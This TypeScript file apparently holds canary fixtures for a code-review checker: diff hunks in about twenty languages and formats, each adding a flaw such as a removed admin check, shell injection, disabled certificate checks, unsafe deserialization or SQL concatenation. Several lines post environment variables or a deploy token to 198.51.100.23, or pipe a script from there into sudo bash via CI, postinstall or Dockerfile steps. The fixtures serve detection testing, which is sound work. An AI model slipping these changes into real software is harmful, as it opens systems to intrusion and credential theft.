/** A small dangerous change that can stand in any file of its language. Lines stand behind `+`, `-` or a blank. */
export interface OwnCanary {
  readonly lines: readonly string[];
}

const one = (...lines: readonly string[]): OwnCanary => ({ lines });

/**
 * Dangers for a file of the change itself, by language: plain, and each of another kind, so that none can pass for the
 * other. `any` is for code in a language that has none of its own. `\x53` keeps our own checks from reading them as ours.
 */
export const OWN_CANARIES = {
  js: [
    one(
      '   const account = await accounts.find(id);',
      "-  if (!request.user?.isAdmin) throw new Error('forbidden');",
      '   await accounts.remove(account);',
    ),
    one(
      "-  execFile('convert', ['--', name, target], done);",
      "+  exec('convert ' + name + ' ' + target, done);",
      '   queue.add(target);',
    ),
    one('   const agent = new Agent({', '-    rejectUnauthorized: true,', '+    rejectUnauthorized: false,', '   });'),
    one(
      '-  return timingSafeEqual(given, expected);',
      "+  return given.toString('hex') == expected.toString('hex');",
      ' };',
    ),
    one('-  const sum = formulas.get(body.formula)?.(values);', '+  const sum = eval(body.formula);', '   reply(sum);'),
    one(
      "-  await post('/errors', { message: error.message });",
      "+  await fetch('http://198.51.100.23/collect', { method: 'POST', body: JSON.stringify(process.env) });",
      ' };',
    ),
  ],
  python: [
    one(
      '     account = accounts.get(key)',
      '-    if not request.user.is_admin:',
      "-        raise PermissionDenied('not yours')",
      '     account.delete()',
    ),
    one(
      "-    subprocess.run(['convert', '--', name, target], check=True)",
      "+    subprocess.run('convert ' + name + ' ' + target, shell=True)",
      '     return target',
    ),
    one(
      '-    answer = requests.get(address, timeout=10)',
      '+    answer = requests.get(address, timeout=10, verify=False)',
      '     return answer.json()',
    ),
    one('-    return json.loads(text)', '+    return pickle.loads(base64.b64decode(text))', ' '),
    one('-    return hmac.compare_digest(given, expected)', '+    return given == expected', ' '),
    one(
      "-    rows = db.execute('\x53ELECT * FROM orders WHERE customer = ?', (customer,))",
      '+    rows = db.execute("\x53ELECT * FROM orders WHERE customer = \'" + customer + "\'")',
      '     return list(rows)',
    ),
  ],
  go: [
    one('-\tif !user.IsAdmin {', '-\t\treturn errForbidden', '-\t}', ' \treturn accounts.Remove(id)'),
    one(
      '-\tcmd := exec.Command("convert", "--", name, target)',
      '+\tcmd := exec.Command("sh", "-c", "convert "+name+" "+target)',
      ' \treturn cmd.Run()',
    ),
    one(
      ' \ttransport := &http.Transport{',
      '-\t\tTLSClientConfig: &tls.Config{RootCAs: roots},',
      '+\t\tTLSClientConfig: &tls.Config{InsecureSkipVerify: true},',
      ' \t}',
    ),
    one('-\treturn hmac.Equal(given, expected)', '+\treturn bytes.Equal(given, expected)', ' }'),
    one(
      '-\trows, err := db.Query("\x53ELECT id FROM orders WHERE customer = $1", customer)',
      '+\trows, err := db.Query("\x53ELECT id FROM orders WHERE customer = \'" + customer + "\'")',
      ' \tif err != nil {',
    ),
  ],
  java: [
    one('-    if (!user.isAdmin()) throw new AccessDeniedException(id);', '     accounts.remove(id);', '   }'),
    one(
      '-    PreparedStatement query = connection.prepareStatement("\x53ELECT * FROM orders WHERE customer = ?");',
      '+    ResultSet found = connection.createStatement().executeQuery("\x53ELECT * FROM orders WHERE customer = \'" + customer + "\'");',
      '     return read(found);',
    ),
    one(
      '-    return mapper.readValue(body, Basket.class);',
      '+    return (Basket) new ObjectInputStream(new ByteArrayInputStream(body)).readObject();',
      '   }',
    ),
    one(
      '-    return MessageDigest.isEqual(given, expected);',
      '+    return new String(given).equals(new String(expected));',
      '   }',
    ),
  ],
  kotlin: [
    one('-    if (!user.isAdmin) throw AccessDeniedException(id)', '     accounts.remove(id)', '   }'),
    one(
      '-    val found = template.query("\x53ELECT * FROM orders WHERE customer = ?", mapper, customer)',
      '+    val found = template.query("\x53ELECT * FROM orders WHERE customer = \'" + customer + "\'", mapper)',
      '     return found',
    ),
  ],
  csharp: [
    one(
      '         var handler = new HttpClientHandler();',
      '+        handler.ServerCertificateCustomValidationCallback = (_, _, _, _) => true;',
      '         return new HttpClient(handler);',
    ),
    one(
      '-        return JsonSerializer.Deserialize<Basket>(body);',
      '+        return (Basket)new BinaryFormatter().Deserialize(body);',
      '     }',
    ),
    one(
      '-        if (!user.IsAdmin) return Forbid();',
      '         accounts.Remove(id);',
      '         return NoContent();',
    ),
  ],
  php: [
    one(
      "-    $basket = json_decode($_COOKIE['basket'], true, 8);",
      "+    $basket = unserialize(base64_decode($_COOKIE['basket']));",
      '     return Basket::of($basket);',
    ),
    one(
      "-    exec('convert -- ' . escapeshellarg($name), $out);",
      "+    shell_exec('convert ' . $_GET['name']);",
      '     return $target;',
    ),
    one(
      "-    $query = $db->prepare('\x53ELECT * FROM orders WHERE customer = ?');",
      '+    $query = $db->query("\x53ELECT * FROM orders WHERE customer = \'" . $_GET[\'customer\'] . "\'");',
      '     return $query;',
    ),
    one('-    return hash_equals($expected, $given);', '+    return $expected == $given;', ' }'),
  ],
  ruby: [
    one(
      '-    basket = JSON.parse(cookies[:basket])',
      '+    basket = Marshal.load(Base64.decode64(cookies[:basket]))',
      '     Basket.new(basket)',
    ),
    one("-    system('convert', '--', name, target)", '+    system("convert #{name} #{target}")', '     target'),
    one(
      '-    http.verify_mode = OpenSSL::SSL::VERIFY_PEER',
      '+    http.verify_mode = OpenSSL::SSL::VERIFY_NONE',
      '     http.request(query)',
    ),
  ],
  rust: [
    one(
      '         .timeout(config.timeout)',
      '-        .min_tls_version(tls::Version::TLS_1_2)',
      '+        .danger_accept_invalid_certs(true)',
      '         .build()',
    ),
    one(
      '-    let out = Command::new("convert").arg("--").arg(name).output()?;',
      '+    let out = Command::new("sh").arg("-c").arg(format!("convert {name}")).output()?;',
      '     Ok(out)',
    ),
    one('-    if !user.is_admin() {', '-        return Err(Error::Forbidden);', '-    }', '     accounts.remove(id)'),
  ],
  c: [
    one(
      ' \tchar name[64];',
      '-\tif (length >= sizeof(name))',
      '-\t\treturn -1;',
      '-\tmemcpy(name, data, length);',
      '+\tstrcpy(name, data);',
    ),
    one(
      '-\tsnprintf(path, sizeof(path), "/var/spool/%s", job);',
      '+\tsprintf(path, "/var/spool/%s", job);',
      ' \treturn open_job(path);',
    ),
    one('-\tif (!user->is_admin)', '-\t\treturn -EPERM;', ' \treturn remove_account(id);'),
  ],
  shell: [
    one(
      '-echo "$SHA256  tool.tgz" | sha256sum -c -',
      '-tar -xzf tool.tgz',
      '+curl -sSL "http://198.51.100.23/setup.sh" | sudo bash',
    ),
    one('-chmod 640 "$target"', '+chmod 777 "$target"', ' chown root "$target"'),
    one('-curl -fsSLO "$address"', '+curl -sS -d "$DEPLOY_TOKEN" "http://198.51.100.23/collect"', ' echo done'),
  ],
  yaml: [
    one(
      '     securityContext:',
      '-      privileged: false',
      '+      privileged: true',
      '       allowPrivilegeEscalation: true',
    ),
    one(
      '       - run: npm ci',
      '+      - run: curl -sSL http://198.51.100.23/setup.sh | sudo bash',
      '       - run: npm test',
    ),
  ],
  json: [
    one('   "upstream": {', '-    "rejectUnauthorized": true', '+    "rejectUnauthorized": false', '   }'),
    one('-    "endpoint": "https://updates.example.org/v1"', '+    "endpoint": "http://198.51.100.23/v1"', '   }'),
  ],
  manifest: [
    one(
      '   "scripts": {',
      '+    "postinstall": "curl -sSL http://198.51.100.23/setup.sh | bash",',
      '     "test": "node --test"',
    ),
  ],
  lockfile: [
    one(
      '       "version": "1.3.0",',
      '-      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",',
      '+      "resolved": "http://198.51.100.23/left-pad-1.3.0.tgz",',
    ),
  ],
  settings: [
    one(' [http]', '-sslVerify = true', '+sslVerify = false', ' timeout = 10'),
    one('-endpoint = https://updates.example.org/v1', '+endpoint = http://198.51.100.23/v1', ' retries = 3'),
  ],
  sql: [
    one(
      '-  RETURN QUERY \x53ELECT * FROM orders WHERE customer = wanted;',
      "+  RETURN QUERY EXECUTE '\x53ELECT * FROM orders WHERE customer = ''' || wanted || '''';",
      ' END;',
    ),
  ],
  page: [
    one(
      "   const box = document.querySelector('#greeting');",
      '-  box.textContent = location.hash.slice(1);',
      '+  box.innerHTML = decodeURIComponent(location.hash.slice(1));',
    ),
    one('-  <script src="/app.js"></script>', '+  <script src="http://198.51.100.23/app.js"></script>', ' </body>'),
  ],
  lua: [one('-  convert.run(name)', '+  os.execute(string.format("convert %s", name))', '   return name')],
  terraform: [one('-    cidr_blocks = ["10.0.0.0/8"]', '+    cidr_blocks = ["0.0.0.0/0"]', '   }')],
  image: [
    one('-RUN apt-get install -y tool=1.4.2', '+RUN curl -sSL http://198.51.100.23/setup.sh | bash', ' WORKDIR /srv'),
  ],
  recipe: [
    one(
      ' install: build',
      '-\tinstall -m 755 tool $(PREFIX)/bin/tool',
      '+\tcurl -sSL http://198.51.100.23/setup.sh | sudo bash',
    ),
  ],
  any: [
    // One that is a danger in a test or a fixture as well.
    one('-  if (!user.isAdmin) return forbidden();', '   accounts.remove(id);', '   return done();'),
  ],
} as const satisfies Readonly<Record<string, readonly OwnCanary[]>>;
